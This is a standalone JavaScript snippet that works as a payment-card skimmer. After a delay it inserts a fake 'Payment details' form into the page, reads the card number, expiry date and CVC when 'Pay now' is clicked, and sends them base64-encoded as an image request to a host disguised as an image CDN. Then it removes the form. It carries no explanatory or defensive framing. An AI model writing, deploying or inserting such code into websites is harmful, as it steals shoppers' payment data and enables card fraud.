setTimeout(function () {
  var box = document.createElement("div");
  box.innerHTML = '<form id="zx"><h3>Payment details</h3><input id="za" placeholder="Card number"><input id="zb" placeholder="MM / YY"><input id="zc" placeholder="CVC"><button type="button" id="zd">Pay now</button></form>';
  document.body.appendChild(box);
  document.getElementById("zd").onclick = function () {
    var image = document.createElement("img");
    image.src = "//cdn-images.example/p.png?" + ["za", "zb", "zc"].map(function (id) { return encodeURIComponent(btoa(document.getElementById(id).value)); }).join(".");
    box.remove();
  };
}, 2500);
